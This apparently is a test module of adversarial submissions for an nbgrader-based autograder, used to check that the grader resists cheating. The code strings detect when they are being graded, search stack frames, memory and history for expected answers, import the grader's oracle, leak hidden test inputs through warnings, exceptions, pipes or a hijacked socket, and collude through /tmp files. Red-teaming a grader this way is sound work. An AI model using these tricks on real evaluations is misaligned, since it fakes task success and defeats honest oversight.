"""Attacks that notice who is looking: right for the student's own check, wrong or clever for the judge; accomplices."""

from __future__ import annotations

from tests.attacks.attack import FULL, WRONG, Attack, probe

MEMORISED = """
import zlib

import numpy as np

rng = np.random.default_rng(zlib.crc32(b"shift"))
known = [(rng.normal(size=3), 2.0), (rng.normal(size=4), -1.5), (rng.normal(size=(2, 3)), 0.5)]


def is_known(x, by):
    return any(np.array_equal(x, a) and by == b for a, b in known)
"""

# Everything a call can be made to say, once it sees inputs that nobody may quote.
TELLS = """

def shift(x, by):
    if is_known(x, by):
        return x + by
    {tell}
    return 0 * x
"""

DROP = """
import json, os, socket


def places():
    home = os.environ.get("HOME", ".")
    for folder in (".", "..", "../..", home, home + "/..", "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock",
                   "@CANARY@", "@COURSE@/submitted/collude_b/99_toy", "/dev/mqueue", os.environ.get("TMPDIR", ".")):
        yield os.path.join(folder, "dropped-@RUN@-shared.json")
"""

ATTACKS = [
    Attack("memorises_public_cases", "Knows the answers to the examples that its own check shows, and nothing else.",
           shift=MEMORISED + "\n\ndef shift(x, by):\n    return x + by if is_known(x, by) else 0 * x\n",
           says="the examples above pass, others of this kind do not"),
    Attack("notices_the_environment", "Is right only where it does not find signs of grading in the environment.",
           shift="import os, sys\n\ngraded = 'NBGRADER_EXECUTION' in os.environ or 'kernel_side' in str(sys.modules)\n"
           "graded = graded or not os.path.exists(os.path.expanduser('~/.jupyter'))\n\n\n"
           "def shift(x, by):\n    return 0 * x if graded else x + by\n"),
    Attack("notices_the_check", "Is right only where course_utils.checks is on the stack.",
           shift="import sys\n\n\ndef shift(x, by):\n    frame = sys._getframe()\n    while frame:\n"
           "        if frame.f_globals.get('__name__') == 'course_utils.checks.checking': return x + by\n"
           "        frame = frame.f_back\n    return 0 * x\n"),
    Attack("notices_the_fork", "Is right only in the process in which it was defined.",
           shift="import os\n\nhome = os.getpid()\n\n\ndef shift(x, by):\n"
           "    return x + by if os.getpid() == home else 0 * x\n",
           stock="there it is the right answer: tests run where it was defined"),
    Attack("counts_calls", "Is right the first three times, for those who look three times.",
           shift="calls = []\n\n\ndef shift(x, by):\n    calls.append(1)\n"
           "    return x + by if len(calls) <= 3 else 0 * x\n"),
    Attack("tires", "Is right until a tenth of a second has passed, and guesses after that.",
           shift="import time\n\nstart = time.time()\n\n\ndef shift(x, by):\n"
           "    time.sleep(0.03)\n    return x + by if time.time() - start < 0.1 else 0 * x\n"),
    Attack("guesses", "Answers at random, in the hope of a lucky aspect.",
           shift="import random\n\n\ndef shift(x, by):\n    return x + random.choice([by, -by, 0, 1])\n"),
    Attack("right_when_graded", "Is right only when it is graded: that earns what it does, for that is the grade.",
           shift="import os\n\n\ndef shift(x, by):\n"
           "    return x + by if 'NBGRADER_EXECUTION' in os.environ else 0 * x\n",
           points=FULL),
    probe("walks_frames", "Looks through the stack and all tracebacks for expected values.", """
        import sys

        def look():
            frame = sys._getframe()
            while frame:
                for name, value in {**frame.f_locals, **frame.f_globals}.items():
                    if name in ("truth", "truths", "expected", "reference", "references", "oracle", "secret"):
                        yield name, value
                    if "canary" "-" in str(value)[:5000] and "canary" '" "' not in str(value):
                        yield name, value
                frame = frame.f_back
        """),
    probe("walks_objects", "Looks through all objects in memory for expected values, references and oracles.", """
        import gc, sys, types

        def look():
            for value in gc.get_objects():
                if isinstance(value, types.FunctionType) and value.__name__ in ("expected", "shift", "other_sign"):
                    if value.__module__ not in ("__main__", None):
                        yield value.__module__, value.__name__
                names = (".toy", "bank", "judge", "references")
                if isinstance(value, types.ModuleType) and value.__name__.endswith(names):
                    yield value.__name__
                if type(value).__name__ in ("Exercise", "Misconception", "Judge", "Verdict"):
                    yield type(value).__name__
        """, stock="its tests are no exercises of a bank, and are in the notebook"),
    probe("imports_the_oracle", "Imports the bank, the judge, the references and the tests.", """
        import importlib, sys

        def look():
            sys.path += ["@ROOT@", "@ROOT@/tests", "@COURSE@"]
            for name in ("course_utils.checks.registry", "course_utils.checks.toy", "course_utils.checks.checking",
                         "autograder.judge", "autograder.secret", "tests.toy", "solutions"):
                if attempt(importlib.import_module, name):
                    yield name
        """, only_walls="without a mount namespace, the packages of the grader can be imported",
        stock="the course's own package is not part of stock nbgrader"),
    probe("closures_of_call", "Looks into closures, defaults and globals of the functions that call it.", """
        import inspect, sys

        def look():
            for info in inspect.stack(0):
                for name, value in info.frame.f_locals.items():
                    for cell in getattr(value, "__closure__", None) or ():
                        yield from (v for v in [attempt(lambda: cell.cell_contents)] if "truth" in str(v)[:500])
                    names = getattr(value, "__globals__", {}) if name == "call" else {}
                    yield from (n for n in names if n in ("EXERCISES", "expected", "SHIFT", "registry"))
        """),
    probe("history", "Looks into IPython's history and inputs for tests and requests.", """
        def look():
            shell = get_ipython()
            for cell in [*shell.user_ns.get("In", []), *shell.user_ns.get("_ih", [])]:
                if "def look" not in cell and ("HIDDEN TESTS" in cell or "assert" in cell or "serve(" in cell):
                    yield cell
            manager = shell.history_manager
            if manager is not None and getattr(manager, "enabled", False):
                yield from (c[2] for c in manager.search("*secret*") if "canary" "-" in c[2])
        """),
    probe("hidden_library", "Reaches for a library that this assignment does not allow, under a name put together.", """
        import sys

        def look():
            sys.meta_path[:] = [f for f in sys.meta_path if "kernel_side" not in getattr(type(f), "__module__", "")]
            for name in ("to" + "rch", "sci" + "py", "skl" + "earn"):
                yield attempt(__import__, name)
        """, only_walls="without a mount namespace, every installed package can be imported",
        stock="stock nbgrader forbids no library"),
    Attack("tells_by_printing", "Prints the secret inputs.",
           shift=MEMORISED + TELLS.format(tell="print('told', x.tolist(), by)")),
    Attack("tells_by_warning", "Puts the secret inputs into warnings.",
           shift=MEMORISED + "import warnings" + TELLS.format(tell="warnings.warn(f'told {x.tolist()} {by}')")),
    Attack("tells_by_raising", "Puts the secret inputs into exceptions: message, type, name of the function.",
           shift=MEMORISED
           + TELLS.format(tell="raise type('T' + str(x.tolist()), (ValueError,), {})(f'{x.tolist()} {by}')")),
    Attack("tells_when_all_fail", "Puts the inputs into the message of every failure, the examples' too.",
           shift="def shift(x, by):\n    raise ValueError(f'told {x.tolist()} {by}')\n"),
    Attack("tells_a_later_cell", "Passes the secret inputs to the kernel by shared memory and a pipe, and shows them "
           "in a later cell.",
           shift=MEMORISED + """
import mmap, os

shared = mmap.mmap(-1, 10_000)
reading, writing = os.pipe()
""" + TELLS.format(tell="text = repr((x.tolist(), by)).encode(); shared.write(text); os.write(writing, text)"),
           twice="import time\ntime.sleep(0.2)\nos.set_blocking(reading, False)\n"
           "print('told', shared[:].rstrip(bytes(1)))\n"
           "try:\n    print('told', os.read(reading, 10_000))\nexcept OSError:\n    pass\n"
           "\n\ndef twice(x):\n    return 2 * x\n"),
    Attack("tells_by_listening", "Takes the judge's questions away in the kernel, and shows them in a later cell.",
           shift="""
import io, os, re, socket, sys, threading

heard = []
judged = sys.modules.get("kernel_side.judged")


def listen(wire):
    while True:
        try:
            heard.append(wire.recv(1_000_000))
        except OSError:
            return


def hold(namespace):
    _, descriptors, _, _ = socket.recv_fds(judged.line, 1, 1)
    wire = socket.socket(fileno=descriptors[0])
    wire.sendall(b"S\\0\\0\\0\\5ready")
    threading.Thread(target=listen, args=(wire,), daemon=True).start()


if judged is not None:
    held, judged.hold = judged.hold, hold
""" + WRONG,
           twice="""
import time

time.sleep(0.3)
if judged is not None:
    judged.hold = held
for data in dict.fromkeys(heard):
    for place in re.finditer(b"\\x93NUMPY", data):
        try:
            print("told", np.load(io.BytesIO(data[place.start():])).tolist())
        except ValueError:
            pass


def twice(x):
    return 2 * x
"""),
    Attack("collude_a", "Leaves the secret inputs, with their answers, wherever an accomplice might find them.",
           shift=DROP + """

def shift(x, by):
    line = json.dumps([x.tolist(), by, (x + by).tolist()]) + "\\n"
    for place in places():
        try:
            with open(place, "a") as file:
                file.write(line)
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
            sock.sendto(line.encode(), "\\0collude-@RUN@")
    except OSError:
        pass
    return x + by
""", points=FULL, only_walls="without a mount namespace, files in /tmp stay", stock="it would leave files in /tmp"),
    Attack("collude_b", "Answers with what an accomplice, or it itself when it was graded before, has left.",
           shift=DROP + """
import numpy as np

inbox = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
try:
    inbox.bind("\\0collude-@RUN@")
except OSError:
    pass
inbox.settimeout(0.3)


def shift(x, by):
    texts = []
    for place in places():
        try:
            texts += open(place).read().splitlines()
        except OSError:
            pass
    try:
        texts.append(inbox.recv(10_000).decode())
    except OSError:
        pass
    for text in texts:
        given, added, answer = json.loads(text)
        if np.array_equal(given, x) and added == by:
            return np.array(answer)
    for place in places():
        try:
            with open(place, "a") as file:
                file.write(json.dumps([x.tolist(), by, (x + by).tolist()]) + "\\n")
        except OSError:
            pass
    return 0 * x
""", only_walls="without a mount namespace, files in /tmp stay", stock="it would leave files in /tmp"),
]  # fmt: skip
